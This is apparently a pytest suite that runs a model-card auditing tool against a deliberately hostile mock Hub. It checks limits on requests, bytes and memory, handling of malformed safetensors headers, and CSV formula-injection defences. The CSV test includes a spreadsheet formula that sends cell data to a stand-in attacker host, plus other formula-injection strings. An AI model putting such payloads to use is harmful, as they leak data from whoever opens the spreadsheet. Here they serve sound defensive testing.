"""`carbon-card audit` against a hostile Hub: bounded requests, bytes and memory (issue #16).

The real huggingface_hub client over real HTTP, against `hub_server.py` made hostile: file
lists of thousands of weight files, files far larger than their caps whose size the file
list omits or misstates, a server that ignores `Range`, broken safetensors headers, cells
that a spreadsheet would run. Memory is measured in an audit process of its own (Linux's
/proc/self/status).
"""

import csv
import io
import json
import os
import struct
import subprocess
import sys
import tempfile
from collections import Counter

import pytest
import test_audit
from hub_server import Huge, castano_repos, make_repo, safetensors_bytes
from test_audit import audit, check_locally, jsonl, without_audit_fields

import carbon_card.audit
from carbon_card.card import MAX_CARD_BYTES
from carbon_card.facts.files import MAX_SIDE_FILE

local_hub = test_audit.local_hub  # the fixture: a local Hub over some repositories, at HF_ENDPOINT

MB = 2**20
CARD = b"---\nlicense: apache-2.0\n---\n# Model\n\nA hostile repository.\n"
PEAK_MB = 200
"""The most memory an audit process may take here (it takes about 50 MB for a few models)."""
SLACK = 16 * MB
"""Bytes a server writes beyond what the client reads before the client drops the connection
(the sockets' buffers)."""


# `carbon-card audit` that writes its peak resident memory (VmHWM, in kB) to the file argv[1] as
# it exits. Not ru_maxrss: a child started by vfork keeps its parent's peak (pytest's) there.
MEASURED = """
import atexit, runpy, sys
out = sys.argv.pop(1)

def peak():
    with open("/proc/self/status") as status, open(out, "w") as handle:
        handle.write(next(line for line in status if line.startswith("VmHWM:")).split()[1])

atexit.register(peak)
runpy.run_module("carbon_card", run_name="__main__")
"""


def audit_process(*args: str) -> tuple[int, str, str, float]:
    """`carbon-card audit` in a process of its own: exit code, stdout, stderr, peak resident MB."""
    with tempfile.TemporaryDirectory() as folder:
        out, err, peak = (os.path.join(folder, name) for name in ("out", "err", "peak"))
        with open(out, "wb") as stdout, open(err, "wb") as stderr:
            process = subprocess.Popen([sys.executable, "-c", MEASURED, peak, "audit", *args], stdout=stdout,
                                       stderr=stderr, env={**os.environ, "CI": "1"})
            try:
                process.wait(timeout=300)  # a hang fails the test, not the suite
            finally:
                process.kill()
        with open(out, encoding="utf-8") as stdout, open(err, encoding="utf-8") as stderr, open(peak) as kb:
            result = process.returncode, stdout.read(), stderr.read(), int(kb.read()) / 1024
    assert "Traceback" not in result[2], result[2]
    return result


def safetensors_header(header) -> bytes:
    """The first bytes of a safetensors file: the header's length, then the header."""
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw


def tensors(count: int, prefix: str = "model.layers") -> list[tuple[str, str, list[int]]]:
    return [(f"{prefix}.{i}.self_attn.q_proj.weight", "F16", [2, 2]) for i in range(count)]


# --------------------------------------------------------------------------- 13: many weight files


def test_thousands_of_weight_files_are_not_read_header_by_header(local_hub, tmp_path):
    count = 3000
    shard = safetensors_bytes(tensors(1))
    names = [f"model-{i:05d}-of-{count:05d}.safetensors" for i in range(1, count + 1)]
    index = json.dumps({"metadata": {"total_size": 24_000}, "weight_map": {f"t{i}": n for i, n in enumerate(names)}})
    many = make_repo("hostile/many-shards", {"README.md": CARD, "model.safetensors.index.json": index.encode(),
                                             **{name: shard for name in names}})
    hub = local_hub([many])
    records, _ = jsonl(audit(many.repo_id, "--format", "jsonl").stdout)

    # The file list, the card, the index: not one header.
    assert [(r.route, r.file) for r in hub.requests if r.repo_id == many.repo_id] == [
        ("info", None), ("resolve", "README.md"), ("resolve", "model.safetensors.index.json")]
    record = records[many.repo_id]
    assert record["error"] is None
    assert [f["message"] for f in record["findings"] if f["code"] == "CC406"] == [
        (f"*.safetensors: {count} safetensors files, over the cap of {carbon_card.audit.MAX_WEIGHT_FILES} whose "
         "headers are read per model: no exact parameter count")]
    (params,) = [f for f in record["facts"] if f["quantity"] == "params"]
    assert params["where"] == "model.safetensors.index.json" and "derived" in params["note"]  # not exact


def test_at_the_cap_the_headers_are_read_and_beyond_it_none(local_hub, tmp_path, monkeypatch):
    monkeypatch.setattr(carbon_card.audit, "MAX_WEIGHT_FILES", 3, raising=False)
    shard = safetensors_bytes(tensors(2))
    three = make_repo("hostile/three", {"README.md": CARD, **{f"m-{i}-of-3.safetensors": shard for i in (1, 2, 3)}})
    four = make_repo("hostile/four", {"README.md": CARD, **{f"m-{i}-of-4.safetensors": shard for i in (1, 2, 3, 4)}})
    hub = local_hub([three, four])
    records, _ = jsonl(audit(three.repo_id, four.repo_id, "--format", "jsonl").stdout)

    assert without_audit_fields(records[three.repo_id]) == check_locally(three, tmp_path)
    assert any(f["quantity"] == "params" and f["value"] == 24 for f in records[three.repo_id]["facts"])
    assert not any(f["quantity"] == "params" for f in records[four.repo_id]["facts"])
    assert [f["message"] for f in records[four.repo_id]["findings"] if f["code"] == "CC406"] == [
        ("*.safetensors: 4 safetensors files, over the cap of 3 whose headers are read per model: "
         "no exact parameter count")]
    headers = [r.repo_id for r in hub.requests if r.file and r.file.endswith(".safetensors")]
    assert headers == [three.repo_id] * 3


# --------------------------------------------------------------------------- 14: downloads over their cap


def test_a_file_over_its_cap_is_not_read_whatever_the_file_list_says(local_hub, tmp_path):
    big = 400 * MB
    text = Huge(big, CARD, b"a")  # a card of 400 MB of text
    blob = Huge(big, b"{", b"\x00")
    repos = [
        make_repo("hostile/card-no-size", {"README.md": text}, listed={"README.md": None}),
        make_repo("hostile/card-false-size", {"README.md": text}, listed={"README.md": 1000}),
        make_repo("hostile/card-no-length", {"README.md": text}, listed={"README.md": None}),
        make_repo("hostile/trainer-no-size", {"README.md": CARD, "trainer_state.json": blob},
                  listed={"trainer_state.json": None}),
        make_repo("hostile/trainer-no-length", {"README.md": CARD, "trainer_state.json": blob},
                  listed={"trainer_state.json": 10}),
        make_repo("hostile/trainer-too-large", {"README.md": CARD, "trainer_state.json": blob}),
        make_repo("hostile/index-no-size", {"README.md": CARD, "model.safetensors.index.json": blob,
                                            "model-00001-of-00002.safetensors": safetensors_bytes(tensors(1))},
                  listed={"model.safetensors.index.json": None}),
    ]
    hub = local_hub(repos)
    for repo_id in ("hostile/card-no-length", "hostile/trainer-no-length"):
        hub.inject("no-length", route="resolve", repo_id=repo_id)  # ended by closing the connection
    code, stdout, stderr, peak = audit_process(*(r.repo_id for r in repos), "--format", "jsonl", "--jobs", "4",
                                               "--retry-wait", "0.01")
    records, summary = jsonl(stdout)

    assert peak < PEAK_MB, f"{peak:.0f} MB"
    for repo in repos:
        sent = sum(n for (repo_id, _), n in hub.sent.items() if repo_id == repo.repo_id)
        cap = MAX_CARD_BYTES if repo.repo_id.startswith("hostile/card") else MAX_SIDE_FILE
        assert sent < cap + SLACK, (repo.repo_id, sent)
    # Nothing asked twice: a file too large is not a network fault.
    assert max(sum(r.repo_id == repo.repo_id and r.file == file for r in hub.requests)
               for repo in repos for file in repo.main.files) == 1

    errors = {r: records[r]["error"] for r in records if records[r]["error"]}
    assert errors == {
        "hostile/card-no-size": {"reason": "unreadable card", "line": None,
                                 "message": f"README.md: {big} bytes, over 10 MB: not a model card"},
        "hostile/card-false-size": {"reason": "unreadable card", "line": None,
                                    "message": f"README.md: {big} bytes, over 10 MB: not a model card"},
        "hostile/card-no-length": {"reason": "unreadable card", "line": None,
                                   "message": "README.md: over 10 MB: not a model card"},
    }
    assert code == 2 and summary["failed"] == 3
    assert sorted(stderr.splitlines()) == sorted(f"carbon-card: {r}: {e['message']}" for r, e in errors.items())

    def warnings(repo_id):
        return [f["message"] for f in records[repo_id]["findings"] if f["code"] == "CC406"]

    over = f"over the cap of {MAX_SIDE_FILE} bytes for side files: not read"
    assert warnings("hostile/trainer-no-size") == [f"trainer_state.json: {big} bytes is {over}"]
    assert warnings("hostile/trainer-no-length") == [f"trainer_state.json: {over}"]
    assert warnings("hostile/index-no-size") == [f"model.safetensors.index.json: {big} bytes is {over}"]
    # Listed with its size: not asked for, and the same words as check's.
    (too_large,) = [r for r in repos if r.repo_id == "hostile/trainer-too-large"]
    assert without_audit_fields(records[too_large.repo_id]) == check_locally(too_large, tmp_path)
    assert not any(r.file == "trainer_state.json" for r in hub.requests if r.repo_id == too_large.repo_id)


# --------------------------------------------------------------------------- 15: Range ignored


def test_a_server_that_ignores_range_sends_no_more_than_the_header(local_hub, tmp_path):
    # A 1 GB safetensors file (its data zeros), and one whose header is longer than the first request.
    size = 1024 * MB
    prefix = safetensors_header({"__metadata__": {"format": "pt"},
                                 "w": {"dtype": "F32", "shape": [size // 8], "data_offsets": [0, size // 2]},
                                 "v": {"dtype": "F32", "shape": [size // 8], "data_offsets": [size // 2, size]}})
    weights = Huge(len(prefix) + size, prefix)
    long_header = safetensors_bytes(tensors(3000))
    assert len(long_header) > 100_000 + 8
    config = json.dumps({"model_type": "llama"}).encode()
    repos = [make_repo("hostile/no-range", {"README.md": CARD, "config.json": config, "model.safetensors": weights}),
             make_repo("hostile/no-range-long-header", {"README.md": CARD, "model.safetensors": long_header}),
             make_repo("hostile/long-header", {"README.md": CARD, "model.safetensors": long_header})]
    hub = local_hub(repos)
    for repo in repos[:2]:
        hub.inject("ignore-range", route="resolve", repo_id=repo.repo_id, file="model.safetensors")
    code, stdout, _, peak = audit_process(*(r.repo_id for r in repos), "--format", "jsonl")
    records, _ = jsonl(stdout)

    assert code == 1 and peak < PEAK_MB, f"{peak:.0f} MB"  # 1: the cards have warnings, none failed
    assert hub.sent[("hostile/no-range", "model.safetensors")] < SLACK
    for repo in repos:
        assert without_audit_fields(records[repo.repo_id]) == check_locally(repo, tmp_path), repo.repo_id
    params = {r: next(f["value"] for f in records[r]["facts"] if f["quantity"] == "params") for r in records}
    assert params["hostile/no-range"] == size // 4 and params["hostile/long-header"] == 3000 * 4
    asked = [(r.repo_id, r.status) for r in hub.requests if r.file == "model.safetensors"]
    # One request for a header within the first 100 kB, two for a longer one; a 200 means Range was ignored.
    assert sorted(asked) == [("hostile/long-header", 206), ("hostile/long-header", 206),
                             ("hostile/no-range", 200),
                             ("hostile/no-range-long-header", 200), ("hostile/no-range-long-header", 200)]


# --------------------------------------------------------------------------- 16: CSV injection


def test_csv_cells_that_start_like_a_formula_are_neutralised(local_hub, tmp_path):
    formulas = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "+1+1", "-1+1", "@SUM(1,1)",
                "\t=1+1", "\r=1+1"]
    repos = [make_repo(f"hostile/formula-{i}", {"README.md": f"---\nbase_model: {json.dumps(f)}\n---\n# M\n".encode()})
             for i, f in enumerate(formulas)]
    bad_ids = ["=SUM(1+1)", "+cmd", "-cmd", "@cmd"]  # not ids huggingface_hub accepts: failed records
    local_hub(repos)
    out = tmp_path / "audit.csv"
    audit("--format", "csv", "-o", str(out), "--", *(r.repo_id for r in repos), *bad_ids)

    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert len(rows) == len(repos) + len(bad_ids)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    by_id = {row["repo_id"]: row for row in rows}
    for repo, formula in zip(repos, formulas):
        # A CR in a cell is written as a line feed: unquoted, readers would end the row there.
        assert by_id[repo.repo_id]["base_model"] == "'" + formula.replace("\r", "\n")
    assert {f"'{i}" for i in bad_ids} <= set(by_id)
    assert all(by_id[f"'{i}"]["error_reason"] == "invalid id" for i in bad_ids)

    # JSON keeps the exact text.
    records, _ = jsonl(audit("--format", "jsonl", "--", *(r.repo_id for r in repos), *bad_ids).stdout)
    for repo, formula in zip(repos, formulas):
        assert next(f["value"] for f in records[repo.repo_id]["facts"] if f["quantity"] == "base_model") == formula
    assert set(bad_ids) <= set(records)


# --------------------------------------------------------------------------- 17: one unreadable header


def broken_headers() -> dict[str, bytes]:
    """Safetensors files that `check` reports as unreadable (CC406), by what is wrong with them."""
    good = {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    return {
        "empty": b"",
        "four-bytes": b"\x01\x02\x03\x04",
        "header-a-list": safetensors_header([1, 2]),
        "length-over-the-cap": struct.pack("<Q", 2**60) + b"{}",
        "length-beyond-the-file": struct.pack("<Q", 500) + b"{}",
        "tensor-not-an-object": safetensors_header({"w": 3}),
        "shape-of-strings": safetensors_header({"w": {"dtype": "F32", "shape": ["a"], "data_offsets": [0, 4]}})
        + bytes(4),
        "offsets-beyond-the-file": safetensors_header(good),  # no data at all
        "not-utf-8": struct.pack("<Q", 4) + b"\xff\xfe{}",
        "too-deep": struct.pack("<Q", 200_000) + b"[" * 100_000 + b"]" * 100_000,
        "metadata-a-list": safetensors_header({"__metadata__": [1], **good}) + bytes(8),
    }


def test_an_unreadable_safetensors_header_is_a_warning_of_that_file_as_in_check(local_hub, tmp_path):
    config = json.dumps({"model_type": "llama", "torch_dtype": "bfloat16"}).encode()
    good = safetensors_bytes(tensors(2))
    repos = [make_repo(f"broken/{name}", {"README.md": CARD, "config.json": config, "model.safetensors": data})
             for name, data in broken_headers().items()]
    # One bad shard of two, and an adapter beside a broken file: the rest of the model is still read.
    repos.append(make_repo("broken/one-shard-of-two", {"README.md": CARD, "model-00001-of-00002.safetensors": good,
                                                       "model-00002-of-00002.safetensors": b"\x00" * 3}))
    repos.append(make_repo("broken/and-a-good-file", {"README.md": CARD, "a.safetensors": good,
                                                      "b.safetensors": safetensors_header({"x": None})}))
    healthy = castano_repos(3)
    hub = local_hub([*repos, *healthy])
    result = audit(*(r.repo_id for r in [*repos, *healthy]), "--format", "jsonl", "--jobs", "4")
    records, summary = jsonl(result.stdout)

    assert summary["failed"] == 0 and result.exit_code == 1  # warnings: every model audited, the run went on
    for repo in [*repos, *healthy]:
        assert without_audit_fields(records[repo.repo_id]) == check_locally(repo, tmp_path), repo.repo_id
    for repo in repos:
        warned = [f["message"] for f in records[repo.repo_id]["findings"] if f["code"] == "CC406"]
        assert len(warned) == 1, (repo.repo_id, warned)
    assert any(f["quantity"] == "params" and f["value"] == 8
               for f in records["broken/and-a-good-file"]["facts"])
    # A broken file is the file's fault, not the network's: not asked again (a long header takes two requests).
    asked = Counter((r.repo_id, r.file) for r in hub.requests if r.file and r.file.endswith(".safetensors"))
    assert {file: n for file, n in asked.items() if n > 1} == {("broken/too-deep", "model.safetensors"): 2}


def test_a_header_cut_short_is_retried_and_then_fails_the_model(local_hub):
    # The network's fault, not the file's: retried, then the model fails (and --resume tries again).
    repo = make_repo("flaky/weights", {"README.md": CARD, "model.safetensors": safetensors_bytes(tensors(2))})
    hub = local_hub([repo])
    hub.inject("truncate", route="resolve", repo_id=repo.repo_id, file="model.safetensors")
    result = audit(repo.repo_id, "--format", "jsonl", "--retries", "2", "--retry-wait", "0.01")
    records, _ = jsonl(result.stdout)
    assert records[repo.repo_id]["error"]["reason"] == "truncated"
    assert records[repo.repo_id]["error"]["message"].startswith("model.safetensors header: ")
    assert sum(r.file == "model.safetensors" for r in hub.requests) == 3
    assert result.exit_code == 2


if __name__ == "__main__":
    sys.exit(pytest.main([__file__, "-q"]))
